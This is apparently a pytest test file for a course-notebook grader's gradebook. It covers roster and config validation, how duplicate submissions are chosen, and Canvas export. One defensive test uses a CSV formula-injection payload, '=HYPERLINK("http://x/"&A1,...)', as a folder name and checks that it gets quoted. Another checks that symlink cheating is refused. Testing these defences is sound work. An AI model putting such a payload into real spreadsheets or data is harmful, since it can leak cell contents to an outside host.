"""The gradebook (issue 48): one row per student from a roster, missing notebooks as zeros of their
maximum, a copy handed in twice graded once by the stated rule and reported (issue 50: alice's
``00_start_here-Copy1.ipynb`` beside ``00_start_here.ipynb`` counted both), weights from the
teacher's config, Canvas's import; each read back as an LMS would."""

from __future__ import annotations

import csv
import json
import os
from dataclasses import replace
from pathlib import Path

import nbformat
import pytest

from gemm_kernels.lab import grade, gradebook
from gemm_kernels.lab._sandbox import sandbox_available
from gemm_kernels.lab.grade import Grade

from test_grade_hostile import lean_notebook, with_answer
from _hostile import WRONG


def _rows(student, notebook, statuses):
    titles = [t for t, _ in grade.ANSWERS[notebook]]
    return [Grade(student, notebook, t, s, int(s == "correct"), "", f"{student}/{notebook}.ipynb")
            for t, s in zip(titles, statuses)]


def _read(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_roster_weights_and_missing_notebooks(tmp_path):
    (tmp_path / "roster.csv").write_text("id,name,folder,sis_id\n1001,Alice A,alice,A1\n1002,Bob B,bob,B2\n"
                                         "1003,Carol C,,C3\n", encoding="utf-8")
    (tmp_path / "config.json").write_text(json.dumps({
        "assignment": "Week 1", "notebooks": ["00_start_here", "01_pointer_arithmetic"],
        "weights": {"00_start_here": {"axpy": 3}}}))
    roster = gradebook.read_roster(tmp_path / "roster.csv")
    config = gradebook.read_config(tmp_path / "config.json")
    grades = (_rows("alice", "00_start_here", ["correct", "correct"])
              + _rows("alice", "01_pointer_arithmetic", ["correct", "wrong", "timeout"])
              + _rows("bob", "00_start_here", ["wrong", "correct"])
              + _rows("zoe", "00_start_here", ["correct", "not attempted"]))
    columns, rows = gradebook.build(grades, roster=roster, config=config)
    gradebook.write_wide_csv(columns, rows, tmp_path / "gradebook.csv")
    gradebook.write_canvas_csv(rows, tmp_path / "canvas.csv", assignment=config["assignment"], roster=roster)
    table = {r["id"]: r for r in _read(tmp_path / "gradebook.csv")}
    assert list(table) == ["1001", "1002", "1003", "zoe"]
    alice, bob, carol, zoe = (table[k] for k in ("1001", "1002", "1003", "zoe"))
    assert (alice["00_start_here:axpy"], alice["00_start_here"], alice["01_pointer_arithmetic"]) == ("3", "4", "1")
    assert (alice["total"], alice["max"], alice["percent"]) == ("5", "7", "71.4")
    assert (bob["total"], bob["max"]) == ("3", "7") and "01_pointer_arithmetic missing" in bob["notes"]
    assert (carol["total"], carol["max"]) == ("0", "7") and "00_start_here missing" in carol["notes"]
    assert "not on the roster" in zoe["notes"] and zoe["total"] == "1"
    with open(tmp_path / "canvas.csv", newline="", encoding="utf-8") as f:
        canvas = list(csv.reader(f))
    assert canvas[0] == [*gradebook.CANVAS_FIELDS, "Week 1"]
    assert canvas[1][0] == "Points Possible" and canvas[1][-1] == "7"
    assert canvas[2] == ["Alice A", "1001", "A1", "", "", "5"]


@pytest.mark.parametrize("text, words", [
    ("name\nalice\n", "needs a header line with an 'id' column"),
    ("id,name\n1,a\n1,b\n", "line 3: 1 is there twice"),
    ("id,name\n,a\n", "line 2: no id"),
])
def test_bad_rosters_are_named(tmp_path, text, words):
    (tmp_path / "r.csv").write_text(text, encoding="utf-8")
    with pytest.raises(gradebook.GradebookError, match=words) as info:
        gradebook.read_roster(tmp_path / "r.csv")
    assert "r.csv" in str(info.value)


@pytest.mark.parametrize("config, words", [
    ({"notebooks": ["00_nope"]}, "unknown"),
    ({"weights": {"00_start_here": {"nope": 1}}}, "has no exercise 'nope'"),
    ({"weights": {"00_start_here": {"axpy": -1}}}, "must be a number >= 0"),
    ({"predictions": "1"}, "'predictions' .* must be a number >= 0"),
    ([], "expected a JSON object"),
])
def test_bad_configs_are_named(tmp_path, config, words):
    (tmp_path / "c.json").write_text(json.dumps(config))
    with pytest.raises(gradebook.GradebookError, match=words):
        gradebook.read_config(tmp_path / "c.json")
    (tmp_path / "c.json").write_bytes(b"\xff{")
    with pytest.raises(gradebook.GradebookError, match="c.json"):
        gradebook.read_config(tmp_path / "c.json")


def test_predict_answers_worth_points_are_noted_as_nbgraders(tmp_path):
    """The grade command cannot grade a prediction (nbgrader collects them, graded by hand): with
    "predictions" in the config every row says so, and the totals hold the checks only."""
    grades = _rows("alice", "00_start_here", ["correct", "wrong"])
    _, rows = gradebook.build(grades, config={"predictions": 1})
    assert gradebook.PREDICTIONS_NOTE in rows[0]["notes"] and (rows[0]["total"], rows[0]["max"]) == (1, 2)
    _, rows = gradebook.build(grades, config={})
    assert gradebook.PREDICTIONS_NOTE not in rows[0]["notes"]


def test_the_copy_rule(tmp_path):
    alice = tmp_path / "alice"
    alice.mkdir()
    exact, copy = alice / "00_start_here.ipynb", alice / "00_start_here-Copy1.ipynb"
    for path in (exact, copy):
        path.write_text("{}")
    os.utime(exact, (1, 1))  # the copy is newer, yet the file named as the course notebook wins
    kept, dropped = gradebook.pick_copies([("alice", copy, "00_start_here"), ("alice", exact, "00_start_here")])
    assert kept == [("alice", exact, "00_start_here")] and dropped == [("alice", copy, "00_start_here", exact)]
    newer = alice / "00_start_here-Copy2.ipynb"
    newer.write_text("{}")
    kept, _ = gradebook.pick_copies([("alice", copy, "00_start_here"), ("alice", newer, "00_start_here")])
    assert kept[0][1] == newer  # no exact name: the copy changed last


def test_the_command_grades_a_class(tmp_path, capsys):
    """alice hands in 00 twice (her right copy named as the course's, a wrong -Copy1 saved later);
    bob's folder has nothing; the gradebook counts alice once and bob's missing notebook as 0."""
    sub = tmp_path / "sub"
    (sub / "alice").mkdir(parents=True)
    (sub / "bob").mkdir()
    nb = lean_notebook()
    nbformat.write(nb, sub / "alice" / "00_start_here.ipynb")
    nbformat.write(with_answer(nb, "launch_stats", WRONG), sub / "alice" / "00_start_here-Copy1.ipynb")
    os.utime(sub / "alice" / "00_start_here.ipynb", (1, 1))
    (tmp_path / "roster.csv").write_text("id,name,folder\n7,Alice,alice\n8,Bob,bob\n", encoding="utf-8")
    (tmp_path / "config.json").write_text(json.dumps({"notebooks": ["00_start_here"], "assignment": "W1",
                                                      "weights": {"00_start_here": {"axpy": 2}}}))
    out = tmp_path / "out"
    out.mkdir()
    assert grade.main([str(sub), "--out", str(out / "grades.csv"), "--gradebook", str(out / "gradebook.csv"),
                       "--canvas", str(out / "canvas.csv"), "--json", str(out / "grades.json"),
                       "--roster", str(tmp_path / "roster.csv"), "--config", str(tmp_path / "config.json"),
                       "--cell-timeout", "10", *([] if sandbox_available() else ["--no-sandbox"])]) == 0
    printed = capsys.readouterr().out
    assert "00_start_here-Copy1.ipynb left out, 00_start_here.ipynb graded" in printed
    assert "graded 1 notebooks in" in printed
    table = {r["id"]: r for r in _read(out / "gradebook.csv")}
    assert (table["7"]["total"], table["7"]["max"]) == ("3", "3")
    assert "Copy1.ipynb ignored" in table["7"]["notes"]
    assert (table["8"]["total"], table["8"]["max"]) == ("0", "3") and "missing" in table["8"]["notes"]
    data = json.loads((out / "grades.json").read_text())
    assert data["copies_left_out"][0]["file"].endswith("00_start_here-Copy1.ipynb") and data["seconds"] > 0
    # the per-exercise rows in the config's points too (a teacher's review: axpy read 1 there, 2 in the gradebook)
    assert {r["exercise"]: r["points"] for r in _read(out / "grades.csv")} == {"launch_stats": "1", "axpy": "2"}
    assert {r["exercise"]: r["points"] for r in data["grades"]} == {"launch_stats": 1, "axpy": 2}
    # and the JSON's maximum in the same points (it counted 1 per exercise: 3 of 2)
    assert (data["students"]["7"]["points"], data["students"]["7"]["max"]) == (3, 3)
    assert data["students"]["7"]["notebooks"]["00_start_here"] == [3, 3]
    # the JSON's totals are the gradebook's: by roster id, a missing notebook at 0 of its maximum (they
    # were keyed by folder and left bob out: a teacher's review)
    assert data["students"]["8"] == {"name": "Bob", "points": 0, "max": 3, "percent": 0.0,
                                     "notebooks": {"00_start_here": [0, 3]}, "notes": "00_start_here missing"}
    assert [r["id"] for r in data["gradebook"]] == list(data["students"])
    assert "warning" not in printed  # a roster was given


def test_canvas_without_a_roster_is_warned(tmp_path, capsys):
    """Canvas matches rows by its own IDs; folder names match none, and the import would say nothing."""
    sub = tmp_path / "sub"
    (sub / "alice").mkdir(parents=True)
    nbformat.write(lean_notebook(), sub / "alice" / "00_start_here.ipynb")
    out = tmp_path / "out"
    out.mkdir()
    assert grade.main([str(sub), "--out", str(out / "grades.csv"), "--canvas", str(out / "canvas.csv"),
                       "--cell-timeout", "10", *([] if sandbox_available() else ["--no-sandbox"])]) == 0
    printed = capsys.readouterr().out
    assert "warning: " in printed and "give --roster" in printed and "canvas.csv" in printed
    # with a roster that lacks alice, her row is one Canvas matches to no one: said too (a teacher's review)
    (tmp_path / "roster.csv").write_text("id,name,folder\n7,Bob,bob\n", encoding="utf-8")
    assert grade.main([str(sub), "--out", str(out / "grades.csv"), "--canvas", str(out / "canvas.csv"),
                       "--roster", str(tmp_path / "roster.csv"), "--cell-timeout", "10",
                       *([] if sandbox_available() else ["--no-sandbox"])]) == 0
    printed = capsys.readouterr().out
    assert "students not on the roster: alice" in printed and "give --roster" not in printed


def test_the_copy_with_the_answers_is_graded(tmp_path):
    """A teacher's review: yara worked in 00_start_here-Copy1.ipynb and left the original blank; the
    blank one was graded (3 of 8). The copy with the most answers written wins, then the name."""
    yara = tmp_path / "yara"
    yara.mkdir()
    blank, worked = yara / "00_start_here.ipynb", yara / "00_start_here-Copy1.ipynb"
    stub = json.dumps('raise NotImplementedError("your turn")')
    blank.write_text("{" + f'"a": {stub}, "b": {stub}' + "}")
    worked.write_text('{"a": "return 1", "b": "return 2"}')
    os.utime(worked, (1, 1))  # older, and not named as the course notebook: its answers still win
    kept, dropped = gradebook.pick_copies([("yara", blank, "00_start_here"), ("yara", worked, "00_start_here")])
    assert kept == [("yara", worked, "00_start_here")] and dropped == [("yara", blank, "00_start_here", worked)]


def test_names_a_spreadsheet_would_run_are_quoted(tmp_path):
    """A student's review: names come from files and folders, and a folder named =HYPERLINK(...) became
    a formula when the teacher opened the gradebook. Such a cell starts with an apostrophe."""
    evil = '=HYPERLINK("http://x/"&A1,"click")'
    grades = _rows(evil, "00_start_here", ["correct", "wrong"]) + _rows("-2+3", "00_start_here", ["wrong", "wrong"])
    columns, rows = gradebook.build(grades)
    gradebook.write_wide_csv(columns, rows, tmp_path / "gradebook.csv")
    gradebook.write_canvas_csv(rows, tmp_path / "canvas.csv", assignment="@W1")
    grade.write_csv(grades, tmp_path / "grades.csv")
    for name in ("gradebook.csv", "canvas.csv", "grades.csv"):
        with open(tmp_path / name, newline="", encoding="utf-8") as f:
            cells = [cell for row in csv.reader(f) for cell in row]
        assert "'" + evil in cells and "'-2+3" in cells, name
        assert not any(cell.startswith(("=", "+", "@")) or (cell.startswith("-") and not cell.lstrip("-").isdigit())
                       for cell in cells), name


def test_a_folder_named_as_another_students_id_gets_a_row_of_its_own():
    """Roster id "alice" hands in from folder "a.smith"; a folder "alice" on no roster line must not
    share her id (one Canvas row would take the other's total)."""
    from gemm_kernels.lab.grade import Grade

    roster = [gradebook.Student(id="alice", name="Alice", folder="a.smith")]
    grades = [Grade("alice", "00_start_here", "axpy", "correct", 1, "", "x.ipynb"),
              Grade("a.smith", "00_start_here", "axpy", "wrong", 0, "", "y.ipynb")]
    columns, rows = gradebook.build(grades, roster=roster)
    ids = [r["id"] for r in rows]
    assert len(set(ids)) == 2 and ids[0] == "alice" and "alice" in ids[1] and "not on the roster" in ids[1]
    assert rows[0]["00_start_here:axpy"] == 0 and rows[1]["00_start_here:axpy"] == 1


def test_a_symbolic_link_is_not_graded_as_the_students_work(tmp_path):
    """An adversary's review: alice/00_start_here.ipynb -> the course's solved notebook scored 2/2, and a
    folder or file linked to a classmate's graded her work as his. Links below SUBMISSIONS are refused."""
    sub = tmp_path / "sub"
    (sub / "carol").mkdir(parents=True)
    (sub / "alice").mkdir()
    nbformat.write(lean_notebook(), sub / "carol" / "00_start_here.ipynb")
    (sub / "alice" / "00_start_here.ipynb").symlink_to(Path(__file__).resolve().parents[1] / "notebooks" / "00_start_here.ipynb")
    (sub / "mallory").symlink_to(sub / "carol", target_is_directory=True)
    (sub / "dave_00_start_here.ipynb").symlink_to(sub / "carol" / "00_start_here.ipynb")
    found = {student: path for student, path in grade.submissions(sub)}
    assert grade.identify(found["carol"], sub)[0] == "00_start_here"
    for student in ("alice", "dave"):
        notebook, why = grade.identify(found[student], sub)
        assert notebook is None and "symbolic link" in why, (student, why)
    mallory = [p for s, p in grade.submissions(sub) if s == "mallory"]
    assert mallory and all(grade.identify(p, sub)[0] is None for p in mallory)


def test_a_notebook_handed_in_but_unreadable_says_why_in_the_notes():
    """A teacher's review: an empty 02 scored 0 with its reason in grades.csv only; the gradebook's
    notes named the missing 01 and said nothing of 02."""
    titles = [t for t, _ in grade.ANSWERS["02_naive_tiling"]]
    why = "the notebook cannot be read: NotJSONError"
    grades = [Grade("frank", "02_naive_tiling", t, "error", 0, why, "frank/02_naive_tiling.ipynb") for t in titles]
    config = {"notebooks": ["01_pointer_arithmetic", "02_naive_tiling"]}
    _, rows = gradebook.build(grades, config=config)
    assert rows[0]["notes"] == f"01_pointer_arithmetic missing; 02_naive_tiling: {why}"
    # one exercise in error among graded ones is a verdict of its own, not a note
    mixed = [replace(g, status="wrong", message="wrong") if i else g for i, g in enumerate(grades)]
    assert "02_naive_tiling:" not in gradebook.build(mixed, config=config)[1][0]["notes"]
